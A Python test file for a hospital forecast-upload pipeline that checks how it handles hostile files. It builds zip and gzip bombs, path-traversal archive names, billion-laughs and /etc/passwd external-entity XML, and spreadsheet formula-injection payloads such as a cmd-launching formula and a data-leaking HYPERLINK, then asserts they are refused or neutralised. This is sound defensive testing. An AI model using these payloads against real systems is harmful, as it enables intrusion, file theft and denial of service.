"""Files made to harm: bombs, names that climb out of a folder, entities in XML, text that a spreadsheet runs."""

from __future__ import annotations

import ast
import csv
import dataclasses
import gzip
import io
import json
import re
import struct
import zipfile
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest
import xlsxwriter
from door_files import AS_OF, HEADER, forecast, week
from python_calamine import CalamineWorkbook

from apps.api import refusals as api_refusals
from apps.shared_views import exports
from dagster_project import intake, register
from dagster_project.contracts.spreadsheet import guarded, unguarded
from dagster_project.editions.export import as_csv
from dagster_project.home import PROJECT_ROOT
from dagster_project.intake import Refusal, limits
from dagster_project.intake.answering.workbooks import annotated_workbook

GOOD = forecast(week(48))
ZEROS = bytes(64 * limits.MEGABYTE)
SECRET = "root:x:0:0"
CODE = sorted(path for folder in ("dagster_project", "apps") for path in (PROJECT_ROOT / folder).rglob("*.py"))
PAYLOADS_OF_OTHERS = PROJECT_ROOT.parent / "shared" / "data" / "injection" / "csv-payload.txt"
RUN_WITH = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d")
PAYLOADS = (
    "=cmd|'/C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "'=1+1",
)


def check(data: bytes, *, file_name: str = "file") -> intake.Receipt:
    return intake.check(data, feed="demand_forecast", file_name=file_name, as_of=AS_OF)


def zipped(entries: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return target.getvalue()


def lying(archive: bytes, size: int) -> bytes:
    """The same zip, saying in both of its headers that its one entry unpacks to `size` bytes."""
    first, second = archive.index(b"PK\x03\x04"), archive.index(b"PK\x01\x02")
    data = bytearray(archive)
    data[first + 22 : first + 26] = struct.pack("<I", size)
    data[second + 24 : second + 28] = struct.pack("<I", size)
    return bytes(data)


def workbook(**parts: str) -> bytes:
    """A good workbook with parts replaced; `workbook` stands for xl/workbook.xml and so on."""
    target = io.BytesIO()
    with xlsxwriter.Workbook(target) as book:
        sheet = book.add_worksheet()
        for row, line in enumerate(GOOD.decode().splitlines()):
            sheet.write_row(row, 0, line.split(","))
    with zipfile.ZipFile(target) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    for part, replace in parts.items():
        (name,) = [name for name in entries if name.endswith(f"/{part}.xml")]
        declaration, body = entries[name].decode().split("?>", 1)
        entries[name] = (declaration + "?>" + replace + body).encode()
    return zipped(entries)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION_LAUGHS = f'<!DOCTYPE lolz [<!ENTITY l0 "lol">{LAUGHS}]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>'


@pytest.mark.usefixtures("workers")
@pytest.mark.parametrize(
    "data",
    [
        gzip.compress(ZEROS),
        gzip.compress(gzip.compress(ZEROS)),
        zipped({"plan.csv": ZEROS}),
        zipped({"plan.zip": zipped({"plan.csv": ZEROS})}),
        lying(zipped({"plan.csv": ZEROS}), 1_000),
        zipped({f"{number}.csv": b"" for number in range(limits.MAX_ENTRIES + 1)}),
        zipped({"[Content_Types].xml": b"", "xl/workbook.xml": b"", "xl/worksheets/sheet1.xml": ZEROS}),
        lying(zipped({"xl/workbook.xml": ZEROS}), 1_000),
    ],
    ids=["gzip", "gzip twice", "zip", "zip twice", "zip that lies", "many entries", "workbook", "workbook that lies"],
)
def test_a_bomb_is_refused_with_a_reason(state: Path, data: bytes) -> None:
    assert len(data) < limits.MEGABYTE
    receipt = intake.submit(data, partner="north-hospital", feed="demand_forecast", as_of=AS_OF)
    (refusal,) = receipt.refusals
    assert receipt.status == "refused"
    # By a limit or by its kind; a worker that had to be stopped would be no answer.
    assert refusal.rule in {"archive", "file_size", "file_kind"}
    assert refusal.hint


@pytest.mark.parametrize("name", ["../../climbed.csv", "/tmp/climbed.csv", "..\\climbed.csv", "C:\\climbed.csv", "a/../../climbed.csv"])  # noqa: S108
def test_a_name_in_an_archive_leads_nowhere(state: Path, tmp_path: Path, name: str) -> None:
    before = set(tmp_path.parent.rglob("*climbed*"))
    receipt = intake.submit(zipped({name: GOOD}), partner="north-hospital", feed="demand_forecast", file_name="plan.zip", as_of=AS_OF)
    assert [refusal.rule for refusal in receipt.refusals] == ["archive"]
    assert set(tmp_path.parent.rglob("*climbed*")) == before
    assert not Path("/tmp/climbed.csv").exists()  # noqa: S108
    assert "climbed" not in str(receipt.to_dict())


def test_a_folder_in_an_archive_is_not_made(state: Path) -> None:
    receipt = intake.submit(
        zipped({"folder/deeper/plan.csv": GOOD}), partner="north-hospital", feed="demand_forecast", file_name="plan.zip", as_of=AS_OF
    )
    assert receipt.status == "accepted"
    assert not list(state.rglob("*deeper*"))
    assert register.verify() == []


@pytest.mark.usefixtures("workers")
@pytest.mark.parametrize("entities", [BILLION_LAUGHS, OUTSIDE], ids=["billion laughs", "outside"])
@pytest.mark.parametrize("part", ["workbook", "sheet1", "sharedStrings"])
def test_entities_in_a_workbook_are_not_followed(part: str, entities: str) -> None:
    data = workbook(**{part: entities})
    data = zipped({name: text.replace(b">pipeline<", b">&l9;<") for name, text in entries_of(data).items()})
    receipt = check(data)
    told = str(receipt.to_dict())
    assert "lollol" not in told
    assert SECRET not in told
    assert "reader_failed" not in told
    assert "too_complex" not in told
    assert receipt.status == "refused"


def entries_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_the_workbook_of_these_tests_is_good_without_entities() -> None:
    assert check(workbook()).status == "accepted"


@pytest.mark.parametrize("path", CODE, ids=lambda path: str(path.relative_to(PROJECT_ROOT)))
def test_no_xml_is_parsed_by_a_parser_that_follows_entities(path: Path) -> None:
    names = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Import):
            names |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            names.add(node.module.split(".")[0])
    assert not names & {"xml", "lxml", "pyexpat"}, "use defusedxml"


def payloads() -> list[str]:
    lines = PAYLOADS_OF_OTHERS.read_text(encoding="utf-8").splitlines() if PAYLOADS_OF_OTHERS.is_file() else []
    return [*PAYLOADS, *filter(None, lines)]


def require_harmless(text: str, column: str) -> None:
    cells = [row[column] for row in csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))]
    assert len(cells) == len(payloads())
    assert not [cell for cell in cells if cell.startswith(RUN_WITH)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_would_run_is_guarded_and_given_back(payload: str) -> None:
    assert guarded(payload).startswith("'")
    assert unguarded(guarded(payload)) == payload


@pytest.mark.parametrize("harmless", ["-80", "+49", "-1.5", "CART-101", "3", "", "it's"])
def test_text_that_would_not_run_stays_as_it_is(harmless: str) -> None:
    assert guarded(harmless) == harmless


def test_no_list_of_refusals_runs_what_a_sender_wrote() -> None:
    found = [dataclasses.asdict(Refusal(row, "patients", "type", text, "a number", "Write one.")) for row, text in enumerate(payloads())]
    require_harmless(exports.safe_csv(exports.refusal_table(found)).decode(), "found")
    receipt = json.dumps({"refusals": found})
    require_harmless("".join(api_refusals.as_csv({"refused_path": None, "receipt_json": receipt})), "found")


def test_no_view_runs_what_a_sender_wrote() -> None:
    require_harmless(as_csv(pa.table({"comment": payloads()})), "comment")
    require_harmless(exports.safe_csv(pd.DataFrame({"comment": payloads()})).decode(), "comment")


def test_a_marked_workbook_holds_no_formula_and_comes_back_as_it_was(state: Path) -> None:
    comments = ["=1+1", "@SUM(1+9)", "-2+3", "+1+cmd"]
    target = io.StringIO()
    csv.writer(target).writerow(HEADER.split(","))
    for number, comment in enumerate(comments, start=48):
        csv.writer(target).writerow(["9501101530003", "CART-101", f"2026-W{number}", "commercial", "many", 1, 9, "pipeline", comment])
    data = target.getvalue().encode()
    receipt = check(data)
    assert receipt.rows_refused == len(comments)
    marked = annotated_workbook(data, receipt)
    assert not [name for name, part in entries_of(marked).items() if re.search(rb"<f[ >]", part)]
    rows = CalamineWorkbook.from_filelike(io.BytesIO(marked)).get_sheet_by_index(0).to_python()
    assert [row[-1] for row in rows[1 : len(comments) + 1]] == [f"'{comment}" for comment in comments]
    again = check(marked)
    assert [(item.row, item.column, item.found) for item in again.refusals] == [
        (item.row, item.column, item.found) for item in receipt.refusals
    ]
